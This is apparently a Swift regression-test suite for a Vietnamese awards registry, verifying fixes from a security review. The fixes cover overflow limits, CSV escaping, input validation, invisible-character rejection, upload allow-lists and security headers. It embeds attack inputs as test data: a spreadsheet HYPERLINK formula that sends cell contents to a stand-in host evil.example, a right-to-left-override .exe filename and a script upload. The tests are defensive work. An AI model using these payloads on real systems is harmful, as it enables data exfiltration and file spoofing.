import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import PostgresNIO
import Testing
import ThiduaCore
import ThiduaStore
import ThiduaTestSupport

/// Regression tests for the security review's findings (../shared/docs/reviews/security.md), one test per finding,
/// named by its id. Each failed on 7d27e19.
@Suite("Hardening: the security review's findings")
struct HardeningTests {

    @Test("F3: numbers that would overflow are refused with 422, and a poisoned base salary cannot crash a reward quote")
    func f3Overflow() async throws {
        try await withTestApp { app, seed in
            let f = try await RegistryFixture.make(seed)
            try await app.test(.router) { client in
                let percent = try await client.send(
                    .put, "/v1/units/\(f.school.id)/policy", token: f.admin,
                    json: #"{"reason":"thử","caps":[{"award":"CSTD_CS","ofAward":"LDTT","percent":"92233720368547759"}]}"#)
                #expect(percent.status == 422)
                #expect(percent.body["errors"]?.array?.first?["field"]?.string == "caps[0]")
                let over100 = try await client.send(
                    .put, "/v1/units/\(f.school.id)/policy", token: f.admin,
                    json: #"{"reason":"thử","caps":[{"award":"CSTD_CS","ofAward":"LDTT","percent":"150"}]}"#)
                #expect(over100.status == 422)
                let coefficient = try await client.send(
                    .post, "/v1/awards/LDTT/rules", token: f.admin,
                    json: #"{"effectiveFrom":"2030-01-01","coefficient":"92233720368547759","reason":"thử"}"#)
                #expect(coefficient.status == 422)
                let salary = try await client.send(
                    .post, "/v1/base-salaries", token: f.admin, json: #"{"amount":900000000000000000,"effectiveFrom":"2030-01-01"}"#)
                #expect(salary.status == 422)
                #expect(salary.body["errors"]?.array?.first?["field"]?.string == "amount")

                // A row stored before the limits existed (simulated by lifting the check) gives a refusal, every time.
                try await seed.client.query("ALTER TABLE base_salaries DROP CONSTRAINT base_salaries_amount_limit", logger: seed.logger)
                try await seed.client.query(
                    "INSERT INTO base_salaries (effective_from, amount, citation) VALUES ('2031-01-01', 900000000000000000, 'x')",
                    logger: seed.logger)
                for _ in 0..<2 {
                    let quote = try await client.send(.get, "/v1/awards/LDTT/reward?date=2031-06-01", token: f.staff)
                    #expect(quote.status == 422)
                    #expect(quote.body["detail"]?.string?.contains("vượt quá giới hạn") == true)
                }
                #expect(try await client.send(.get, "/v1/awards/LDTT/reward?date=2024-07-01", token: f.staff).status == 200)
            }
        }
    }

    @Test("F5: a model titled like a formula reaches the movement report's CSV as text, not as a formula")
    func f5FormulaInCSV() async throws {
        try await withTestApp { app, seed in
            let f = try await RegistryFixture.make(seed)
            try await app.test(.router) { client in
                let model = try await client.send(
                    .post, "/v1/movements/\(f.movement.id)/models", token: f.union,
                    json:
                        #"{"title":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")","field":"economy","owner":{"unitId":"\#(f.collective.id)"}}"#
                )
                #expect(model.status == 201)
                var csv = ""
                try await client.execute(
                    uri: "/v1/reports/movements/\(f.movement.id)?format=csv", method: .get, headers: Seed.headers(f.headmaster)
                ) { response in
                    csv = String(decoding: response.body.readableBytesView, as: UTF8.self)
                }
                #expect(csv.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""Xem"")""#))
                #expect(!csv.contains(#","=HYPERLINK"#))
            }
        }
    }

    @Test("F16: /health names neither the data folder nor the database host")
    func f16HealthRevealsNothing() async throws {
        try await withTestApp { app, _ in
            try await app.test(.router) { client in
                try await client.execute(uri: "/health", method: .get) { response in
                    // Up, or (on a machine loaded by the whole suite) not answering within /health's timeout: either
                    // way the body names no place.
                    let text = String(decoding: response.body.readableBytesView, as: UTF8.self)
                    #expect(text.contains("\"state\":\"up\"") || text.contains("\"state\":\"down\""))
                    #expect(!text.contains("location"))
                    #expect(!text.contains("test "))
                    #expect(!text.contains("/tmp"))
                }
            }
        }
    }

    @Test("F8: client input that gave 500 gives 4xx: big bodies, forged cursors, NUL, year 0000, huge numbers, long names")
    func f8ClientInputIsNeverA500() async throws {
        try await withTestApp { app, seed in
            let f = try await RegistryFixture.make(seed)
            try await app.test(.router) { client in
                let big = "{\"fullName\":\"" + String(repeating: "a", count: 2 * 1_048_576 + 10) + "\"}"
                #expect(try await client.send(.post, "/v1/people", token: f.admin, json: big).status == 413)
                let forged = Data(#"["garbage","not-a-uuid"]"#.utf8).base64EncodedString()
                for path in ["/v1/nominations", "/v1/commendations", "/v1/movements", "/v1/documents", "/v1/units", "/v1/people"] {
                    let response = try await client.send(.get, "\(path)?cursor=\(forged)", token: f.admin)
                    #expect(response.status == 422, "\(path) answered \(response.status)")
                    #expect(response.body["errors"]?.array?.first?["field"]?.string == "cursor")
                    #expect(response.body["code"]?.string == "invalid-cursor")
                }
                let nul = try await client.send(
                    .post, "/v1/people", token: f.admin,
                    json: #"{"fullName":"Lê Văn\u0000An","unitId":"\#(f.school.id)","position":"Giáo viên","category":"VC"}"#)
                #expect(nul.status == 422)
                #expect(nul.body["errors"]?.array?.first?["field"]?.string == "fullName")
                #expect(try await client.send(.get, "/v1/people?q=a%00b", token: f.admin).status == 422)
                let year0 = try await client.send(
                    .post, "/v1/documents", token: f.admin,
                    json: #"{"number":"1/QĐ","date":"0000-06-15","issuer":"UBND","title":"Kế hoạch"}"#)
                #expect(year0.status == 422)
                let huge = try await client.send(
                    .post, "/v1/movements", token: f.admin,
                    json: """
                        {"name":"PT","unitId":"\(f.school.id)","period":"2024","criteria":[{"code":"A","title":"A","maxPoints":3000000000}]}
                        """)
                #expect(huge.status == 422)
                // Under the integer limit but over a criterion's most points: said beside the criterion, not as a
                // database constraint with no name.
                let movements = try await seed.count("movements")
                let many = try await client.send(
                    .post, "/v1/movements", token: f.admin,
                    json: """
                        {"name":"PT","unitId":"\(f.school.id)","period":"2024","criteria":[{"code":"A","title":"A","maxPoints":9007199254740990}]}
                        """)
                #expect(many.status == 422)
                #expect(many.body["errors"]?.array?.first?["field"]?.string == "criteria[0]")
                #expect(many.body["errors"]?.array?.first?["message"]?.string == "Điểm tối đa của một tiêu chí không quá 1.000.")
                #expect(try await seed.count("movements") == movements)
                let overflow = try await client.send(
                    .post, "/v1/base-salaries", token: f.admin, json: #"{"amount":99999999999999999999999,"effectiveFrom":"2030-01-01"}"#)
                #expect(overflow.status == 422)
                let long = try await client.send(
                    .post, "/v1/people", token: f.admin,
                    json: "{\"fullName\":\"" + String(repeating: "Nguyễn ", count: 300) + "An\",\"unitId\":\"\(f.school.id)\"}")
                #expect(long.status == 422)
                #expect(long.body["errors"]?.array?.first?["field"]?.string == "fullName")
                let wrongType = try await client.send(.post, "/v1/people", token: f.admin, json: #"{"fullName":12}"#)
                #expect(wrongType.status == 400)
                #expect(wrongType.body["detail"]?.string?.contains("fullName") == true)
            }
        }
    }

    @Test("F12: bidi and zero-width characters are refused in names, titles and file names")
    func f12InvisibleCharacters() async throws {
        try await withTestApp { app, seed in
            let f = try await RegistryFixture.make(seed)
            try await app.test(.router) { client in
                let name = try await client.send(
                    .post, "/v1/people", token: f.admin,
                    json: #"{"fullName":"Trần \u202Egnp.exe\u202C Hà","unitId":"\#(f.school.id)","position":"Giáo viên","category":"VC"}"#)
                #expect(name.status == 422)
                #expect(name.body["errors"]?.array?.first?["message"]?.string?.contains("U+202E") == true)
                let title = try await client.send(
                    .post, "/v1/movements/\(f.movement.id)/models", token: f.union,
                    json: #"{"title":"Mô\u200Bhình","field":"economy","owner":{"unitId":"\#(f.collective.id)"}}"#)
                #expect(title.status == 422)
                #expect(title.body["errors"]?.array?.first?["field"]?.string == "title")
                let nomination = try await f.nomination(seed, status: .draft)
                var headers = HTTPFields()
                headers[.contentType] = "application/pdf"
                headers[.contentDisposition] = "attachment; filename*=UTF-8''Bi%C3%AAn%20b%E2%80%AEfdp.exe"
                let file = try await client.send(
                    .post, "/v1/nominations/\(nomination.id)/evidence", token: f.union, json: "%PDF-1.4", headers: headers)
                #expect(file.status == 422)
                #expect(file.body["errors"]?.array?.first?["field"]?.string == "filename")
            }
        }
    }

    @Test("F7: an upload of a kind of file thidua does not keep is refused with 415 and stores nothing")
    func f7ContentTypeAllowList() async throws {
        try await withTestApp { app, seed in
            let f = try await RegistryFixture.make(seed)
            let nomination = try await f.nomination(seed, status: .draft)
            try await app.test(.router) { client in
                var headers = HTTPFields()
                headers[.contentType] = "text/html"
                headers[.contentDisposition] = "attachment; filename=\"trang.html\""
                let html = try await client.send(
                    .post, "/v1/nominations/\(nomination.id)/evidence", token: f.union, json: "<script>alert(1)</script>", headers: headers)
                #expect(html.status == 415)
                #expect(html.body["code"]?.string == "unsupported-media-type")
                headers[.contentType] = "application/PDF; name=x"
                headers[.contentDisposition] = "attachment; filename=\"bien-ban.pdf\""
                let pdf = try await client.send(
                    .post, "/v1/nominations/\(nomination.id)/evidence", token: f.union, json: "%PDF-1.4", headers: headers)
                #expect(pdf.status == 201)
                #expect(pdf.body["contentType"]?.string == "application/pdf")
                #expect(try await seed.count("evidence") == 1)
            }
        }
    }

    @Test("F7: each account and each model or nomination has a quota of files; retracted files still count")
    func f7Quota() async throws {
        try await TestDatabase.with { database, client in
            let seed = Seed(client: client, logger: database.logger)
            let f = try await RegistryFixture.make(seed)
            let nomination = try await f.nomination(seed, status: .draft)
            var quota = EvidenceRules.Quota()
            quota.filesPerSubject = 2
            let evidence = EvidenceRepository(client: client, quota: quota)
            for index in 0..<2 {
                let item = try await evidence.add(
                    .file(Data("tệp \(index)".utf8), filename: "t\(index).txt", contentType: "text/plain"), to: .nomination(nomination.id),
                    by: f.unionAccount, logger: database.logger)
                if index == 0 {
                    _ = try await evidence.retract(
                        UUID(uuidString: item.id)!, reason: "Nhầm tệp", by: f.unionAccount, logger: database.logger)
                }
            }
            let refusal = await #expect(throws: DomainError.self) {
                try await evidence.add(
                    .file(Data("tệp 3".utf8), filename: "t3.txt", contentType: "text/plain"), to: .nomination(nomination.id),
                    by: f.unionAccount, logger: database.logger)
            }
            #expect(refusal?.code == .quotaExceeded)
            // A note is not a file: it takes no room and is still accepted.
            _ = try await evidence.add(.note("Ghi chú"), to: .nomination(nomination.id), by: f.unionAccount, logger: database.logger)
            #expect(try await seed.count("evidence") == 3)
        }
    }

    @Test("F11: every answer says nosniff; HTML reports carry a strict CSP; a stored file of another type downloads sandboxed")
    func f11Headers() async throws {
        try await withTestApp { app, seed in
            let f = try await RegistryFixture.make(seed)
            let nomination = try await f.nomination(seed, status: .draft)
            // A file stored before the allow-list (text/html), written directly as an older version would have.
            try await seed.client.query(
                """
                INSERT INTO evidence_files (sha256, size, content)
                SELECT encode(sha256(b), 'hex'), octet_length(b), b FROM (SELECT convert_to('<b>hi', 'UTF8') AS b) AS x
                """, logger: seed.logger)
            let rows = try await seed.client.query(
                """
                INSERT INTO evidence (nomination_id, kind, file_sha256, filename, content_type, added_by)
                SELECT \(nomination.id), 'file', encode(sha256(convert_to('<b>hi', 'UTF8')), 'hex'), 'cu.html', 'text/html', \(f.unionAccount.id)
                RETURNING id
                """, logger: seed.logger
            ).collect()
            let id = try #require(rows.first).decode(UUID.self)
            try await app.test(.router) { client in
                try await client.execute(uri: "/health", method: .get) { response in
                    #expect(response.headers[.xContentTypeOptions] == "nosniff")
                }
                try await client.execute(
                    uri: "/v1/reports/honor-list?year=2024&format=html", method: .get, headers: Seed.headers(f.staff)
                ) { response in
                    #expect(response.headers[.contentSecurityPolicy]?.hasPrefix("default-src 'none'") == true)
                    #expect(response.headers[.xContentTypeOptions] == "nosniff")
                }
                try await client.execute(
                    uri: "/v1/evidence/\(id.uuidString.lowercased())/content", method: .get, headers: Seed.headers(f.union)
                ) { response in
                    #expect(response.status == .ok)
                    #expect(response.headers[.contentType] == "application/octet-stream")
                    #expect(response.headers[.contentSecurityPolicy] == "sandbox")
                }
            }
        }
    }
}
